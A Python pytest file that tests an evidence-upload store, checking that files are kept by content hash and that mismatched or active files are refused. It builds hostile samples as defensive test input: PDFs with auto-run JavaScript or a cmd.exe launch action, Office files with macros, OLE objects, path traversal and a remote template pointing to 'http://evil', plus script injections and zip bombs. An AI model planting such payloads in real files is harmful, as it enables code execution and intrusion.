"""What is kept as evidence: what its ending says, of a bearable size, and nothing that acts."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from hashlib import sha256

import pytest

from app.evidence_files import BYTES_MAX, FolderFiles
from engine.usecases.errors import InputRefused, NotFound

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
TYPES = (
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document'
    '.main+xml"/></Types>'
)
FOLDERS = {".docx": "word/document.xml", ".xlsx": "xl/workbook.xml", ".pptx": "ppt/slides/s.xml"}
TEMPLATE = (
    '<Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" '
    'TargetMode="External"/>'
)


def png():
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0\xff\xff\xff")
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"\xff\xdb\x00C\x00" + b"\x01" * 64 + b"\xff\xd9"
)  # fmt: skip


def office(ending=".docx", parts=(), *, types=TYPES):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(FOLDERS[ending], "<w/>")
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def misplaced():
    """An archive whose parts begin before its first byte."""
    made = bytearray(office())
    [at] = struct.unpack_from("<I", made, len(made) - 6)
    struct.pack_into("<I", made, len(made) - 6, at + 10)
    return bytes(made)


def pdf_with(words):
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + words)


def hidden(words):
    """A PDF whose act stands in a compressed object stream."""
    packed = zlib.compress(b"1 0 << " + words + b" >>")
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
    return PDF.replace(b"trailer", b"2 0 obj\n" + head + packed + b"\nendstream\nendobj\ntrailer")


@pytest.fixture
def files(tmp_path):
    return FolderFiles(tmp_path / "evidence")


def code(files, content, name):
    with pytest.raises(InputRefused) as refused:
        files.keep(io.BytesIO(content), name)
    [fault] = refused.value.faults
    return fault.code


def everything(files):
    return [path for path in files._folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (PDF, "laporan.pdf", "application/pdf"),
        (PDF, "LAPORAN AKHIR.v2.PDF", "application/pdf"),
        (hidden(b"/Length 3"), "arsip.pdf", "application/pdf"),
        (png(), "foto.png", "image/png"),
        (JPEG, "foto.jpeg", "image/jpeg"),
        (office(), "nota.docx", None),
        (office(".xlsx"), "data.xlsx", None),
        (office(".pptx"), "paparan.pptx", None),
        ("Rapat tanggal 3 — selesai\n".encode(), "notulen.txt", "text/plain"),
        (b"\xef\xbb\xbfnama;nilai\r\nA;1\r\n", "nilai.csv", "text/csv"),
    ],
)
def test_what_is_what_it_says_is_kept_by_the_hash_of_its_content(files, content, name, kind):
    kept = files.keep(io.BytesIO(content), name)
    digest = sha256(content).hexdigest()
    assert (kept.sha256, kept.size_bytes) == (digest, len(content))
    assert kind in (None, kept.media_type)
    assert files.read(digest) == content
    assert [path.relative_to(files._folder).as_posix() for path in everything(files)] == [
        f"{digest[:2]}/{digest[2:4]}/{digest}"
    ]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"MZ" + b"\0" * 200, "setup.pdf"),
        (PDF, "foto.png"),
        (png(), "laporan.pdf"),
        (b"\n\n" + PDF, "laporan.pdf"),
        (png() + office(), "foto.png"),
        (JPEG[:20] + b"<script>alert(1)</script>" + JPEG[20:], "foto.jpg"),
        (b"<html><script>", "catatan.txt"),
        (b"\xef\xbb\xbf <svg onload=1>", "catatan.csv"),
        (b"a\0b", "catatan.txt"),
        (b"\x1b[2Ja\x08", "catatan.txt"),
        (office(), "buku.xlsx"),
        (b"PK\x03\x04 broken", "nota.docx"),
        (b"junk" + office(), "nota.docx"),
        (misplaced(), "nota.docx"),
        (office(parts=[("word/_rels/document.xml.rels", "<r")]), "nota.docx"),
        (office(parts=[("../../etc/cron.d/x", "x")]), "nota.docx"),
        (office(parts=[("/word/x.xml", "x")]), "nota.docx"),
        (office(parts=[("word\\x.xml", "x")]), "nota.docx"),
        (PDF, "laporan.exe"),
        (PDF, "laporan.pdf.exe"),
        (PDF, "laporan.exe.pdf"),
        (PDF, "laporan"),
        (b"<svg/>", "gambar.svg"),
    ],
)
def test_what_is_something_else_is_refused_and_leaves_nothing(files, content, name):
    assert code(files, content, name) == "file_type"
    assert everything(files) == []


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf"),
        (pdf_with(b"/OpenAction << /S /J#61vaScript >>"), "a.pdf"),
        (pdf_with(b"/A << /S /Launch /F (cmd.exe) >>"), "a.pdf"),
        (pdf_with(b"/Names << /EmbeddedFiles 3 0 R >>"), "a.pdf"),
        (pdf_with(b"/AcroForm << /XFA [ 1 0 R ] >>"), "a.pdf"),
        (hidden(b"/S /JavaScript"), "a.pdf"),
        (office(parts=[("word/vbaProject.bin", "x")]), "a.docx"),
        (office(parts=[("word/activeX/activeX1.bin", "x")]), "a.docx"),
        (office(parts=[("word/embeddings/oleObject1.bin", "x")]), "a.docx"),
        (office(parts=[("word/isi.zip", "x")]), "a.docx"),
        (office(parts=[("word/media/a.exe", "x")]), "a.docx"),
        (office(types=TYPES.replace("document.main", "document.macroEnabled.main")), "a.docx"),
        (office(types="<!DOCTYPE x [<!ENTITY a 'b'>]>" + TYPES), "a.docx"),
        (office(parts=[("word/_rels/settings.xml.rels", TEMPLATE)]), "a.docx"),
        (office(parts=[("word/_rels/settings.xml.RELS", TEMPLATE)]), "a.docx"),
        (office(parts=[("word/_rels/a.rels", TEMPLATE.encode("utf-16"))]), "a.docx"),
        (office(parts=[("word/_rels/a.rels", TEMPLATE.replace("Ext", "&#69;xt"))]), "a.docx"),
        (b"halo <script>alert(1)</script>", "a.txt"),
    ],
)
def test_what_acts_when_it_is_opened_is_refused(files, content, name):
    assert code(files, content, name) == "file_active"
    assert everything(files) == []


def test_a_link_in_a_document_is_no_act(files):
    rel = (
        '<Relationship Type="http://x/hyperlink" Target="https://contoh.id/frame" '
        'TargetMode="External"/>'
    )
    files.keep(io.BytesIO(office(parts=[("word/_rels/document.xml.rels", rel)])), "a.docx")
    files.keep(io.BytesIO(pdf_with(b"/A << /S /URI /URI (https://contoh.id) >>")), "a.pdf")


def test_what_unpacks_to_too_much_is_refused(files):
    zeros = b"\0" * (40 * 1024 * 1024)
    assert code(files, office(parts=[("word/media/a.png", zeros)]), "a.docx") == "file_bomb"
    many = office(parts=[(f"word/{n}.xml", "") for n in range(10_001)])
    assert code(files, many, "a.docx") == "file_bomb"


def test_nothing_and_too_much_are_refused(files):
    assert code(files, b"", "a.pdf") == "file_empty"
    assert code(files, PDF + b" " * BYTES_MAX, "a.pdf") == "file_too_large"
    assert everything(files) == []


@pytest.mark.parametrize("name", ["../../etc/passwd", "ab", "a" * 65, "/" * 64, "", "g" * 64])
def test_only_hashes_of_what_is_there_are_read(files, name):
    with pytest.raises(NotFound):
        files.read(name)


def test_the_same_content_is_kept_once(files):
    for name in ("a.pdf", "b.pdf"):
        files.keep(io.BytesIO(PDF), name)
    assert len(everything(files)) == 1
